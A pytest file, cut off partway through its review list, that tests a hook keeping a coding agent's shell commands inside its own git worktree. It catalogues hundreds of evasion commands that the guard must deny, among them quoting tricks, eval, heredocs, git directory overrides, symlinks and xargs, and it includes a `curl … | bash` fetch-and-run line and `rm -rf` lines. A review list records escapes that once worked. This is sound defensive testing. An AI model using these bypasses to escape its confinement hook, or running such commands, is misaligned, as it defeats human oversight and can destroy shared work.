"""Bash (SPEC §5.2) against the evasion catalogue of research/bash-parsing.md §6, both directions.

Each row runs through the engine with a real repository: the acting agent's linked worktree W, the main
checkout {MAIN}, a sibling worktree {SIB}. A representative subset also runs through `worktree-guard hook`
as a subprocess (test_hook_subprocess_subset).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.helpers import Repo, git, plain_id, run_hook_process, subagent_payload
from worktree_guard.engine import build_context, decide
from worktree_guard.model import Verdict
from worktree_guard.plugins import plugin_manager
from worktree_guard.runtimes.claude_code import to_tool_call

PM = plugin_manager()
OUTSIDE_HOME = "/opt/wg-test-home"  # the fixture's HOME lies in the allow-listed temp dir


def fill(text: str, repo: Repo) -> str:
    return (
        text.replace("{MAIN}", str(repo.main))
        .replace("{SIB}", str(repo.sibling))
        .replace("{W}", str(repo.worktree))
        .replace("{OUT}", str(repo.outside))
    )


def bash(repo: Repo, command: str, cwd: Path | None = None, **flags) -> Verdict:
    payload = subagent_payload(repo, "Bash", {"command": fill(command, repo), "description": "test"})
    if cwd is not None:
        payload["cwd"] = str(cwd)
    call = to_tool_call(payload)
    ctx = build_context(call, flags=flags or None, pm=PM)
    return decide(call, ctx)


def assert_row(repo: Repo, command: str, expected) -> None:
    """A catalogue row: "pass", or a deny with exactly the `expected` error codes."""
    verdict = bash(repo, command)
    codes = {v.code for v in verdict.violations if v.severity == "error"}
    if expected == "pass":
        assert verdict.decision == "pass", f"{command!r} should pass, got {sorted(codes)}: {[v.message for v in verdict.violations]}"
    else:
        assert verdict.decision == "deny" and codes == expected, f"{command!r}: expected {sorted(expected)}, got {sorted(codes)}: {[v.message for v in verdict.violations]}"


@pytest.fixture
def world(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    monkeypatch.setenv("HOME", OUTSIDE_HOME)
    monkeypatch.delenv("TMPDIR", raising=False)
    monkeypatch.delenv("CDPATH", raising=False)
    (repo.worktree / "src").mkdir(exist_ok=True)
    (repo.worktree / "to-main").symlink_to(repo.main)
    (repo.worktree / "to-ssl").symlink_to("/etc/ssl")
    git("branch", "feature", cwd=repo.main)
    return repo


# (command, expected): expected is "pass" or the exact set of codes of the violations (no more, no fewer).
CD_ROWS = [
    ("cd /etc", {"WG201"}),
    ("cd ../../x", {"WG201"}),
    ("cd src/../../../..", {"WG201"}),
    ("cd", {"WG201"}),  # $HOME
    ("cd ''", "pass"),
    ("cd -", {"WG202"}),
    ('cd "$OLDPWD"', {"WG202"}),
    ("cd ~-", {"WG202"}),
    ("cd ~", {"WG201"}),
    ("cd ~root", {"WG201"}),
    ("cd ~/x", {"WG201"}),
    ("cd $X", {"WG202"}),
    ('cd "${X:-/etc}"', {"WG202"}),
    ("cd $1", {"WG202"}),
    ("cd $(git rev-parse --show-toplevel)/..", {"WG202"}),
    ("cd `dirname $PWD`", {"WG202"}),
    ("d=/etc; cd $d", {"WG201"}),
    ("d=src; cd $d", "pass"),
    ("read d <<< ..; cd $d", {"WG202"}),
    ("CDPATH=/etc cd ssl", {"WG202"}),
    ("cd to-main", {"WG201"}),
    ("cd to-ssl/..", {"WG201"}),  # logically W, physically /etc
    ("cd -P to-ssl/..", {"WG201"}),
    ("cd *k", {"WG202"}),
    ("cd /e*c", {"WG202"}),
    ("cd {..,x}", {"WG201"}),  # brace expansion is static: cd .. x (bash 5.2 refuses two operands; older bash went to the first)
    ('"c"d {MAIN}', {"WG201"}),
    ("\\cd {MAIN}", {"WG201"}),
    ("'cd' {MAIN}", {"WG201"}),
    ("c''d {MAIN}", {"WG201"}),
    ("c\\\nd {MAIN}", {"WG201"}),
    ("$'\\x63d' {MAIN}", {"WG404"}),
    ("cd $'\\x2e\\x2e'", {"WG202"}),
    ("builtin cd {MAIN}", {"WG201"}),
    ("command cd {MAIN}", {"WG201"}),
    ("eval 'cd {MAIN}'", {"WG201"}),
    ('eval "cd $x"', {"WG404"}),
    ("source <(echo cd ..)", {"WG404"}),
    (". /dev/stdin <<< 'cd ..'", {"WG404"}),
    ("trap 'cd {MAIN}' DEBUG; true", {"WG201"}),
    ("f() { cd {MAIN}; }; f", {"WG201"}),
    ("f() { cd {MAIN}; }", {"WG201"}),  # defined, never called here: still analysed
    ("cd() { :; }; cd {MAIN}", {"WG201"}),
    ("shopt -s expand_aliases\nalias c=cd\nc {MAIN}", {"WG404"}),
    ("pushd /tmp", "pass"),
    ("pushd {MAIN}", {"WG201"}),
    ("pushd -n /etc; pushd +1", {"WG202"}),
    ("popd", {"WG202"}),
    ("pushd src && popd", "pass"),
    ("(cd {MAIN})", {"WG201"}),
    ("x=$(cd {MAIN})", {"WG201"}),
    ("cd {MAIN} | cat", {"WG201"}),
    ("cd {MAIN} &", {"WG201"}),
    ("{ cd {MAIN}; }", {"WG201"}),
    ("if true; then cd {MAIN}; fi", {"WG201"}),
    ("for d in ..; do cd $d; done", {"WG201"}),  # a short literal list is walked value by value
    ("while read d; do cd $d; done <<< ..", {"WG202"}),
    ("bash -c 'cd {MAIN}'", {"WG201"}),
    ("env -C .. ls", "pass"),
    ("ｃd ..", {"WG406"}),  # a look-alike is not cd: an unknown program given W's parent, in the main checkout
    ("cd src && ls", "pass"),
    ("cd {W}/src", "pass"),
    ("cd /tmp && ls", "pass"),
    ("[[ -d /x ]] && cd {MAIN}", {"WG201"}),
    ("case $x in a) cd {MAIN};; esac", {"WG201"}),
    ("time cd {MAIN}", {"WG201"}),
]

INDIRECTION_ROWS = [
    ("bash -c 'git -C {MAIN} switch feature'", {"WG301"}),
    ("sudo sh -c 'echo x > {MAIN}/f'", {"WG401"}),
    ("bash -lc 'touch {MAIN}/f'", {"WG401"}),
    ("bash <<EOF\ncd {MAIN}\nEOF", {"WG201"}),
    ("bash <<'EOF'\ntouch {MAIN}/f\nEOF", {"WG401"}),
    ("bash <<< 'cd {MAIN}'", {"WG201"}),
    ("cat x.sh | sh", {"WG404"}),
    ("curl -s https://example.invalid/x | bash", {"WG404"}),
    ('bash -c "$CMD"', {"WG404"}),
    ('eval "$cmd"', {"WG404"}),
    ('trap "$x" EXIT', {"WG404"}),
    ("BASH_ENV=/x bash -c ls", {"WG404"}),
    ("env GIT_DIR={MAIN}/.git git checkout feature", {"WG301"}),
    ("env -C {MAIN} git switch feature", {"WG301"}),
    ("env -C {MAIN} touch x", {"WG401"}),
    ("nice -n 5 git -C {MAIN} reset --hard", {"WG302"}),
    ("timeout 5 git -C {MAIN} checkout feature", {"WG301"}),
    ("nohup rm -rf {MAIN}/src &", {"WG401"}),
    ("time git -C {MAIN} switch feature", {"WG301"}),
    ("command git -C {MAIN} switch feature", {"WG301"}),
    ("exec git -C {MAIN} switch feature", {"WG301"}),
    ("sudo -u root touch {MAIN}/x", {"WG401"}),
    ("stdbuf -oL tee {MAIN}/log", {"WG401"}),
    ("find {MAIN} -maxdepth 0 -exec git -C {} switch feature \\;", {"WG303"}),  # {} is anywhere under {MAIN}
    ("echo {MAIN} | xargs -I{} git -C {} switch feature", {"WG303"}),
    ("ls | xargs rm", {"WG403"}),
    ("find . -name '*.pyc' -exec rm {} +", "pass"),
    ("find . -name '*.pyc' -delete", "pass"),
    ("find {MAIN} -name '*.pyc' -delete", {"WG401"}),
    ("$(printf git) -C {MAIN} switch feature", {"WG404"}),
    ("$CMD switch feature", {"WG404"}),
    ("$PYTHON -m pytest tests/", "pass"),
    ("python -c 'import os; print(1)'", "pass"),
    ("diff <(git -C {MAIN} switch feature) y", {"WG301"}),
    ("tee >(cat > {MAIN}/x) < /dev/null", {"WG401", "WG403"}),  # tee writes the /dev/fd path of >(…): unknown
    ("echo ${x:-$(git -C {MAIN} switch feature)}", {"WG301"}),
    ("cat <<EOF\n$(git -C {MAIN} switch feature)\nEOF", {"WG301"}),
    ("cat <<EOF\n`touch {MAIN}/x`\nEOF", {"WG401"}),
    ("cat <<'EOF'\n$(git -C {MAIN} switch feature)\nEOF", "pass"),  # quoted: data
    ("if true; then cat <<EOF\nEOF\ngit -C {MAIN} switch feature\nEOF\nfi", {"WG301"}),
    ("sh script.sh", "pass"),
    # Values bash runs as code without eval (tests/test_bash_evaluated.py has every shape, each checked in bash).
    ("x='$(git -C {MAIN} switch feature)'; echo \"${x@P}\"", {"WG301"}),
    ("PS1='\\u@\\h:\\w\\$ '; echo \"${PS1@P}\"", "pass"),
    ('echo "${x@P}"', {"WG404"}),
    ("x='a[$(touch {MAIN}/x)]'; echo \"${!x}\"", {"WG401"}),
    ("x='a[$(touch {MAIN}/x)]'; echo $((x + 1))", {"WG401"}),
    ("echo $(( '$(touch {MAIN}/x)' ))", {"WG401"}),
    ("printf -v 'a[$(touch {MAIN}/x)]' y", {"WG401"}),
    ('printf -v "$name" y', {"WG404"}),
    ("PS4='$(touch {MAIN}/x)'; set -x; true", {"WG401"}),
]

GIT_ROWS = [
    ("cd {MAIN} && git switch -c x", {"WG201", "WG301"}),
    ("(cd {MAIN} && git switch feature)", {"WG201", "WG301"}),
    ("git -C {MAIN} switch feature", {"WG301"}),
    ("git -C / -C {MAIN} switch feature", {"WG301"}),
    ("git -C ../../.. switch feature", {"WG301"}),
    ('git -C "$d" switch feature', {"WG303"}),
    ("git --git-dir={MAIN}/.git --work-tree={MAIN} checkout feature", {"WG301"}),
    ("git --git-dir {MAIN}/.git --work-tree {MAIN} checkout feature", {"WG301"}),
    ("git -c core.worktree={MAIN} --git-dir={MAIN}/.git checkout feature", {"WG301"}),
    ("GIT_DIR={MAIN}/.git git checkout feature", {"WG301"}),
    ("export GIT_DIR={MAIN}/.git; git switch feature", {"WG301"}),
    ("GIT_WORK_TREE={MAIN} git checkout -- README.md", {"WG302"}),
    ('GIT_DIR="$X" git status', "pass"),
    ('GIT_DIR="$X" git reset --hard', {"WG303"}),
    ("git -C {MAIN} checkout -- README.md", {"WG302"}),
    ("git -C {MAIN} checkout feature", {"WG301"}),
    ("git -C {MAIN} reset --hard", {"WG302"}),
    ("git -C {MAIN} stash", {"WG302"}),
    ("git -C {MAIN} stash pop", {"WG302"}),
    ("git -C {MAIN} stash list", "pass"),
    ("git -C {MAIN} clean -fdx", {"WG302"}),
    ("git -C {MAIN} commit -am x", {"WG302"}),
    ("git -C {MAIN} add -A", {"WG302"}),
    ("git -C {MAIN} pull", {"WG302"}),
    ("git -C {MAIN} frobnicate", {"WG302"}),
    ("git -C {SIB} switch feature", {"WG301"}),
    ("git -C {OUT} restore README.md", {"WG302"}),
    ("git -C {MAIN} symbolic-ref HEAD refs/heads/feature", {"WG301"}),
    ("git update-ref refs/heads/main HEAD", {"WG305"}),
    ("git update-ref refs/heads/mine HEAD", "pass"),
    ("git branch -m main renamed", {"WG305"}),
    ("git branch -f main HEAD", {"WG305"}),
    ("git branch -D main", {"WG305"}),
    ("git branch -C main", {"WG305"}),
    ("git branch -M topic main", {"WG305"}),
    ("git branch -m mine", "pass"),  # renames this worktree's own branch
    ("git checkout --ignore-other-worktrees main", {"WG305"}),
    ("git config core.bare true", {"WG305"}),
    ("git config --global user.name x", {"WG305"}),
    ("git config --worktree core.sparseCheckout true", "pass"),
    ("git config user.name", "pass"),
    ("git config --get remote.origin.url", "pass"),
    ("git -c alias.x='!cd {MAIN} && git switch feature' x", {"WG305", "WG201", "WG301"}),  # and the alias's code, walked where git runs it
    ("git -c core.hooksPath=/tmp/h commit -m x", {"WG305"}),
    ("git push . HEAD:main", {"WG305"}),
    ("git fetch . HEAD:main", {"WG305"}),
    ("git push origin HEAD:main", "pass"),
    ("git worktree remove {SIB}", {"WG304"}),
    ("git worktree add ../wt3", {"WG304"}),
    ("git worktree add /tmp/wt3", {"WG304"}),
    ("git worktree prune", {"WG304"}),
    ("git worktree list", "pass"),
    ("git checkout -b topic", "pass"),
    ("git switch -c topic", "pass"),
    ("git stash && git stash pop", "pass"),
    ("git reset --hard HEAD", "pass"),
    ("git -C {MAIN} status", "pass"),
    ("git -C {MAIN} log --oneline -5", "pass"),
    ("git -C {MAIN} diff", "pass"),
    ("git -C {MAIN} branch -a", "pass"),
    ("git --no-pager log -1", "pass"),
    # The git dir GIT_DIR or --git-dir names is `git init`'s target, as `git init <dir>`'s directory is (real git
    # 2.39 made a repository at {MAIN}/sub from each of these, which passed): WG401 in a shared checkout.
    ("GIT_DIR={MAIN}/sub git init", {"WG401"}),
    ("git --git-dir={MAIN}/sub init", {"WG401"}),
    ("git --git-dir {MAIN}/sub init -q --bare", {"WG305", "WG401"}),
    ("GIT_DIR={SIB}/sub git init", {"WG401"}),
    ("GIT_DIR=/etc/x git init", {"WG402"}),
    ("GIT_DIR=$X git init", {"WG403"}),
    ("git --git-dir=$X init", {"WG403"}),
    ("GIT_DIR=/tmp/g git init && GIT_DIR=/tmp/g git add README.md", "pass"),
    ("GIT_DIR=.git git init", "pass"),  # W's own repository, re-initialised: nothing changes
    # git takes a relative GIT_DIR from the directory it ends up in: after every -C, and for init after entering
    # the directory it is given (the repository is /tmp/fresh/.git, not W's).
    ("GIT_DIR=.git GIT_WORK_TREE=/tmp/x git -C {MAIN} rm -q --cached README.md", {"WG302"}),
    ("git --git-dir=.git -C {MAIN} --work-tree=/tmp/x rm -q --cached README.md", {"WG302"}),
    ("GIT_DIR=.git git init -q --shared=all /tmp/fresh", "pass"),
    # clone checks its files out into GIT_WORK_TREE / --work-tree (real git filled {MAIN}/sub); init records it as
    # core.worktree, so a later git through that new git dir in the same command acts on it (WG303).
    ("GIT_WORK_TREE={MAIN}/sub git clone -q {MAIN} /tmp/c", {"WG401"}),
    ("git --work-tree={MAIN}/sub clone -q {MAIN} /tmp/c", {"WG401"}),
    ("GIT_WORK_TREE=$X git clone -q {MAIN} /tmp/c", {"WG403"}),
    ("git --git-dir=/tmp/g --work-tree={MAIN} init -q && git --git-dir=/tmp/g read-tree HEAD && git --git-dir=/tmp/g rm -q -f :/README.md", {"WG303"}),
    ("git --work-tree={MAIN} init", "pass"),  # git refuses a work tree without a git dir, and writes nothing
    # `--config-env core.worktree=VAR` sets core.worktree to the value of $VAR, not to the word VAR (git 2.39 lets no
    # command-line core.worktree move the work tree at all; the guard reads it as set, the cautious way)
    ("V={MAIN} git --config-env core.worktree=V rm -q --cached README.md", {"WG302"}),
    ("git --config-env core.worktree=V rm -q --cached README.md", {"WG303"}),
    ("V={MAIN} git --config-env core.worktree=V status", "pass"),
    ("GIT_COMMON_DIR={MAIN}/cd git init -q /tmp/r9", {"WG401"}),  # made <main>/cd/{hooks,info,refs,…}
    ("GIT_COMMON_DIR=/etc/cd git init -q /tmp/r9", {"WG402"}),
    ("GIT_COMMON_DIR=$X git init -q /tmp/r9", {"WG403"}),
    ("git clone -q {MAIN} /tmp/c", "pass"),
    # `git <sub> -h` alone prints the usage and changes nothing. With more words git reads the options first (one
    # may open a file: `diff -h --output=f` truncated f, git 2.39); `--help` starts man, which runs a pager or a
    # configured `man.<tool>.path`; `-h` may be an option's value (`-b -h`) or a name after `--`.
    ("git -C {MAIN} switch -h", "pass"),
    ("git -C {MAIN} checkout -h", "pass"),
    ("git -C {MAIN} reset -h", "pass"),
    ("git -C {MAIN} format-patch -h", "pass"),
    ("git -C {MAIN} switch --help", {"WG302"}),
    ("git -c man.man.path=/usr/bin/tee -C {MAIN} switch --help", {"WG302"}),
    ("git diff -h --output={MAIN}/README.md", {"WG401"}),
    ("git -C {MAIN} archive -h -o {MAIN}/README.md HEAD", {"WG401"}),
    ("git -C {MAIN} switch -h feature", {"WG302"}),
    ("git -C {MAIN} checkout -b -h", {"WG301"}),
    ("git -C {MAIN} switch -- -h", {"WG302"}),
    ("git -C {MAIN} reset --hard -h", {"WG302"}),
    ("git -C {MAIN} lfs -h", {"WG302"}),  # not git's own: git-lfs reads -h as it likes
]

WRITE_ROWS = [
    ("echo x > {MAIN}/f", {"WG401"}),
    ("echo x >> {MAIN}/f", {"WG401"}),
    ("echo x >| {MAIN}/f", {"WG401"}),
    ("echo x &> {MAIN}/f", {"WG401"}),
    ("echo x &>> {MAIN}/f", {"WG401"}),
    ("echo x 2> {MAIN}/f", {"WG401"}),
    ("echo x 1<> {MAIN}/f", {"WG401"}),
    ("echo x >& {MAIN}/f", {"WG401"}),
    ("{ echo x; } > {MAIN}/f", {"WG401"}),
    ("> {MAIN}/f echo x", {"WG401"}),
    ("exec 3> {MAIN}/f", {"WG401"}),
    ("echo x > /etc/f", {"WG402"}),
    ("echo x > $f", {"WG403"}),
    ("echo x > ~/x", {"WG402"}),
    ("echo x > $(echo y)", {"WG403"}),
    ("echo x > to-main/f", {"WG401"}),
    ("echo x > src/../to-main/f", {"WG401"}),
    ("echo x | tee {MAIN}/f", {"WG401"}),
    ("echo x | tee -a {MAIN}/f", {"WG401"}),
    ("echo x | sudo tee /etc/x", {"WG402"}),
    ("dd if=/dev/zero of={MAIN}/x bs=1 count=1", {"WG401"}),
    ("cp a.txt {MAIN}/", {"WG401"}),
    ("cp -t {MAIN} a.txt", {"WG401"}),
    ("cp --target-directory={MAIN} a.txt", {"WG401"}),
    ("install -D src/a {MAIN}/y", {"WG401"}),
    ("ln -s /etc/passwd link", {"WG402"}),
    ("ln -s {MAIN}/src link", {"WG401"}),
    ("mv {MAIN}/f .", {"WG401"}),
    ("sed -i 's/a/b/' {MAIN}/f", {"WG401"}),
    ("sed --in-place=.bak -e 's/a/b/' {MAIN}/f", {"WG401"}),
    ("sed -i.bak 's/a/b/' {MAIN}/f", {"WG401"}),
    ("perl -pi -e 's/a/b/' {MAIN}/f", {"WG401"}),
    ("touch {MAIN}/f", {"WG401"}),
    ("mkdir -p {MAIN}/d", {"WG401"}),
    ("rm -rf {MAIN}/src", {"WG401"}),
    ("rmdir {MAIN}/d", {"WG401"}),
    ("truncate -s0 {MAIN}/f", {"WG401"}),
    ("chmod 644 {MAIN}/f", {"WG401"}),
    ("tar -xf a.tar -C {MAIN}", {"WG401"}),
    ("tar czf {MAIN}/a.tgz .", {"WG401"}),
    ("unzip -d {MAIN} a.zip", {"WG401"}),
    ("curl -o {MAIN}/x https://example.invalid/x", {"WG401"}),
    ("wget -O {MAIN}/x https://example.invalid/x", {"WG401"}),
    ("rsync -a src/ {MAIN}/src/", {"WG401"}),
    ("echo x > .git/config", {"WG103"}),
    ("echo x > /dev/null 2>&1", "pass"),
    ("cmd > /tmp/out.txt 2> /dev/null", "pass"),
    ("echo x >> build.log", "pass"),
    ("cp a.txt b.txt && mv b.txt c.txt", "pass"),
    ("sed -n '1,10p' {MAIN}/README.md", "pass"),
    ("cat {MAIN}/README.md > copy.md", "pass"),
    ("tar czf /tmp/a.tgz .", "pass"),
    ("curl -s https://example.invalid/x", "pass"),
]

ORDINARY_WORK = [
    "git commit -m \"$(cat <<'EOF'\nAdd the feature\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
    "cat > notes.md <<'EOF'\n# Notes\n$HOME stays literal\nEOF",
    "pytest -x -q 2>&1 | tail -20",
    "python -m pytest tests/ -x -q 2>&1 | tail",
    "npm test",
    "npm install && npm run build",
    "git add -A && git commit -m 'wip'",
    "git status && git diff --stat",
    "grep -rn 'TODO' src/",
    "sed -n '1,40p' src/app.py",
    "find . -name '*.py' -not -path './.venv/*' | head -20",
    "ls -la",
    "mkdir -p build/out",
    "cp src/a.py src/b.py",
    "echo done > /tmp/status.txt",
    "cd src && python -m compileall -q . && cd ..",
    "source .venv/bin/activate && pytest",
    "for f in *.py; do echo $f; done",
    "if [ -f setup.py ]; then pip install -e .; fi",
    "[[ -d build ]] || mkdir build",
    "echo $((1 + 2))",
    "time make -j2",
    "wc -l $(git ls-files '*.py') | sort -n | tail",
    "git log --oneline -10 | cat",
    "rm -rf build dist *.egg-info",
    "touch src/__init__.py",
    "export PATH=$HOME/.local/bin:$PATH && which python",
    "git worktree list",
    "git rev-parse --show-toplevel",
    "make -C src",
    "",
    "# just a comment",
]


def _check(world: Repo, command: str, expected) -> None:
    verdict = bash(world, command)
    codes = set(verdict.codes)
    if expected == "pass":
        assert verdict.decision == "pass", f"{command!r} should pass, got {verdict.codes}: {[v.message for v in verdict.violations]}"
    else:
        assert verdict.decision == "deny", f"{command!r} should be denied with {expected}"
        assert codes == expected, f"{command!r}: expected exactly {expected}, got {codes}"


@pytest.mark.parametrize("command,expected", CD_ROWS, ids=[plain_id(r[0], 40) for r in CD_ROWS])
def test_cd_catalogue(world: Repo, command: str, expected) -> None:
    _check(world, command, expected)


@pytest.mark.parametrize("command,expected", INDIRECTION_ROWS, ids=[plain_id(r[0], 40) for r in INDIRECTION_ROWS])
def test_indirection_catalogue(world: Repo, command: str, expected) -> None:
    _check(world, command, expected)


@pytest.mark.parametrize("command,expected", GIT_ROWS, ids=[plain_id(r[0], 40) for r in GIT_ROWS])
def test_git_catalogue(world: Repo, command: str, expected) -> None:
    _check(world, command, expected)


@pytest.mark.parametrize(
    "command,how,written",
    [
        ("GIT_DIR={MAIN}/sub git init", "init, the git dir named by GIT_DIR or --git-dir", "{MAIN}/sub"),
        ("git --git-dir=sub -C {MAIN} init", "init, the git dir named by GIT_DIR or --git-dir", "--git-dir=sub"),
        ("GIT_WORK_TREE={MAIN}/sub git clone -q {MAIN} /tmp/c", "the work tree it checks out", "{MAIN}/sub"),
    ],
)
def test_the_directory_git_init_or_clone_is_sent_to_is_named_in_the_record(world: Repo, command: str, how: str, written: str) -> None:
    """The agent reads which of git's directories lands in the main checkout, and where: the git dir a relative
    --git-dir names is taken after `-C` ({MAIN}/sub, not W/sub)."""
    (finding,) = bash(world, command).violations
    main, worktree = str(world.main), str(world.worktree)
    assert (finding.code, finding.rule, finding.path, finding.resolved, finding.shared_root) == ("WG401", "writes", fill(written, world), f"{main}/sub", main)
    assert finding.message == f"`git` ({how}) writes {main}/sub in the shared checkout {main}, not in this agent's worktree {worktree}."
    filled = fill(command, world)
    assert filled[finding.span[0]:finding.span[1]] in (fill(written, world), f"GIT_DIR={main}/sub", f"GIT_WORK_TREE={main}/sub")


@pytest.mark.parametrize("command,expected", WRITE_ROWS, ids=[plain_id(r[0], 40) for r in WRITE_ROWS])
def test_write_catalogue(world: Repo, command: str, expected) -> None:
    _check(world, command, expected)


@pytest.mark.parametrize("command", ORDINARY_WORK, ids=[plain_id(c, 40) or "empty" for c in ORDINARY_WORK])
def test_ordinary_work_inside_the_worktree_passes(world: Repo, command: str) -> None:
    _check(world, command, "pass")


def test_violations_carry_spans_and_suggestions(world: Repo) -> None:
    command = fill("ls && echo leak > {MAIN}/LEAK.txt", world)
    verdict = bash(world, command)
    (violation,) = verdict.violations
    start, end = violation.span
    assert command[start:end] == f"{world.main}/LEAK.txt"
    assert violation.suggestion == f"{world.worktree}/LEAK.txt"
    assert violation.shared_root == str(world.main)
    assert violation.rule == "writes"


def test_nested_string_spans_point_into_the_outer_command(world: Repo) -> None:
    command = fill("bash -c 'cd {MAIN}'", world)
    (violation,) = bash(world, command).violations
    start, end = violation.span
    assert command[start:end] == str(world.main)


def test_strict_profile_refuses_inline_interpreters(world: Repo) -> None:
    assert bash(world, "python3 -c 'print(1)'").decision == "pass"
    verdict = bash(world, "python3 -c 'print(1)'", profile="strict")
    assert verdict.codes == ["WG405"]
    assert "WG405" in bash(world, "node -e 'x'", profile="strict").codes


def test_unparseable_command_is_wg900_and_warn_option(world: Repo) -> None:
    verdict = bash(world, "echo 'unterminated")
    assert verdict.decision == "deny" and verdict.codes == ["WG900"]
    assert "simpler form" in verdict.violations[0].message
    assert bash(world, "echo 'unterminated", on_parse_error="warn").decision == "warn"


def test_oversized_command_is_wg901(world: Repo) -> None:
    verdict = bash(world, "echo " + "a" * (70 * 1024))
    assert verdict.codes == ["WG901"]


def test_deep_nesting_is_wg901(world: Repo) -> None:
    verdict = bash(world, "bash -c " * 12 + "ls")  # each `bash -c bash` runs a shell that reads its input
    assert verdict.decision == "deny" and "WG404" in verdict.codes
    nested = "echo $(" * 300 + "x" + ")" * 300
    assert bash(world, nested).codes == ["WG901"]


def test_cd_state_carries_to_later_commands(world: Repo) -> None:
    """A relative write after `cd` is judged where the shell would be."""
    assert "WG401" in bash(world, "cd to-main && echo x > f").codes
    assert bash(world, "cd src && echo x > f").decision == "pass"
    assert bash(world, "(cd /tmp) && echo x > f").decision == "pass"  # the subshell's cd does not leak
    assert "WG403" in bash(world, "source env.sh; echo x > f").codes  # after source: cwd unknown


def test_cdpath_in_the_hook_environment_makes_bare_names_dynamic(world: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CDPATH", "/etc")
    assert "WG202" in bash(world, "cd ssl").codes
    assert bash(world, "cd ./src").decision == "pass"


def test_tmpdir_known_from_the_environment(world: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", "/tmp")
    assert bash(world, "echo x > $TMPDIR/out").decision == "pass"


def test_non_isolated_agent_bash_is_not_confined(world: Repo) -> None:
    payload = {"hook_event_name": "PreToolUse", "cwd": str(world.main), "tool_name": "Bash",
               "tool_input": {"command": "git switch feature && echo x > /etc/f"}}
    call = to_tool_call(payload)
    assert decide(call, build_context(call, pm=PM)).decision == "pass"


SUBPROCESS_SUBSET = [
    ("echo leak > {MAIN}/LEAK.txt", "WG401"),
    ("cd {MAIN} && git switch -c x", "WG301"),
    ("git -C {MAIN} reset --hard", "WG302"),
    ("bash -c 'cd {MAIN}'", "WG201"),
    ("git branch -m main renamed", "WG305"),
    ("cd $X", "WG202"),
    ("git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"", None),
    ("pytest -x -q 2>&1 | tail", None),
]


@pytest.mark.parametrize("command,code", SUBPROCESS_SUBSET, ids=[plain_id(c[0], 30) for c in SUBPROCESS_SUBSET])
def test_hook_subprocess_subset(world: Repo, command: str, code: str | None) -> None:
    payload = subagent_payload(world, "Bash", {"command": fill(command, world), "description": "x"})
    result = run_hook_process(payload, env={"HOME": OUTSIDE_HOME})
    assert result.returncode == 0 and "Traceback" not in result.stderr
    if code is None:
        assert result.stdout == ""
    else:
        assert result.decision == "deny" and code in result.reason


def test_commit_idiom_really_commits_and_guard_agrees(world: Repo) -> None:
    """The heredoc commit idiom is judged a pass, and bash runs it as the guard read it."""
    (world.worktree / "new.txt").write_text("x\n")
    command = "git add new.txt && git commit -q -m \"$(cat <<'EOF'\nAdd new.txt\n\nBody line\nEOF\n)\""
    assert bash(world, command).decision == "pass"
    import subprocess

    subprocess.run(["bash", "-c", command], cwd=world.worktree, check=True, env={**os.environ, "HOME": str(world.base)})
    assert git("log", "-1", "--format=%s", cwd=world.worktree).strip() == "Add new.txt"
    assert git("rev-parse", "--abbrev-ref", "HEAD", cwd=world.main).strip() == "main"


def test_globs_in_write_operands_are_expanded_on_the_filesystem(world: Repo) -> None:
    (world.worktree / "a.egg-info").mkdir()
    assert bash(world, "rm -rf build dist *.egg-info").decision == "pass"
    assert bash(world, "rm -f nothing-matches-*.tmp").decision == "pass"
    assert "WG401" in bash(world, "rm -rf to-mai?").codes  # the match is a symlink into the main checkout
    # A glob in a directory component is not expanded (`/*/*/*` could walk the whole disk): unknown.
    assert "WG403" in bash(world, "rm -rf to-m*/src").codes
    assert "WG403" in bash(world, "echo > /*/*/*/*/*/*/*/*/*/*/zz").codes
    assert "WG401" in bash(world, "rm -rf {MAIN}/sr*").codes
    (world.worktree / "readme-link").symlink_to(world.main / "README.md")
    assert "WG401" in bash(world, "echo x > readme-lin?").codes  # one match: bash writes through it
    assert bash(world, "echo x > new-fil?").decision == "pass"  # no match: the literal name, inside W
    assert "WG403" in bash(world, "rm -rf $X*").codes


def test_xargs_replace_string_inside_a_shell_script(world: Repo) -> None:
    assert bash(world, "ls | xargs -I {} sh -c 'echo {}'").decision == "pass"
    assert "WG403" in bash(world, "ls | xargs -I {} sh -c 'rm {}'").codes
    assert "WG401" in bash(world, "ls | xargs -I {} sh -c 'cp {} {MAIN}/'").codes


# Escapes an independent review found; each passed before its fix.
REVIEW_ROWS = [
    ("git -C {MAIN} $(echo switch) feature", {"WG302"}),
    ('git -C {MAIN} "$@"', {"WG302"}),
    ("echo switch feature | xargs git -C {MAIN}", {"WG302"}),
    ('mapfile -t a <<< x; git -C {MAIN} "${a[@]}"', {"WG302"}),
    ("env -iC {MAIN} git switch feature", {"WG301"}),
    ("env -vC {MAIN} git switch feature", {"WG301"}),
    ("sudo -Eu root git -C {MAIN} switch feature", {"WG301"}),
    ("echo {MAIN} | xargs -rI{} git -C {} switch feature", {"WG303"}),
    ("xargs --replace git -C {} switch feature", {"WG303"}),
    ("bash -c -e 'git -C {MAIN} switch feature'", {"WG301"}),
    ("bash -c -- 'git -C {MAIN} switch feature'", {"WG301"}),
    ("bash +x -c 'git -C {MAIN} switch feature'", {"WG301"}),
    ("bash /dev/stdin <<< 'git -C {MAIN} switch feature'", {"WG404"}),
    ("bash <(echo git -C {MAIN} switch feature)", {"WG404"}),
    ("git -C {MAIN} checkout -f", {"WG302"}),
    ("git -C {MAIN} checkout --pathspec-from-file=list.txt", {"WG302"}),
    ("git branch -qm main renamed", {"WG305"}),
    ("git update-ref -m msg refs/heads/main HEAD", {"WG305"}),
    ("git -C {MAIN} lfs checkout", {"WG302", "WG406"}),  # WG406: an unknown subcommand given a word in main (issue 10 review)
    ("cd . ; OLDPWD={MAIN}; cd - ; git switch feature", {"WG201", "WG301"}),
    ("PWD={MAIN}; cd ~+ ; git switch feature", {"WG201", "WG301"}),
    ("pushd /tmp; pushd -n {MAIN}; popd; git switch feature", {"WG202", "WG303"}),
    ("X={MAIN}; declare -n r=X; rm -rf $r/f", {"WG403"}),
    ("X={MAIN}; declare -n r=X; cd $r", {"WG202"}),
    ("IFS=:; p=x:{MAIN}/f; rm -f $p", {"WG403"}),
    ("find / -maxdepth 3 -name repo -exec git -C {} switch feature \\;", {"WG303"}),
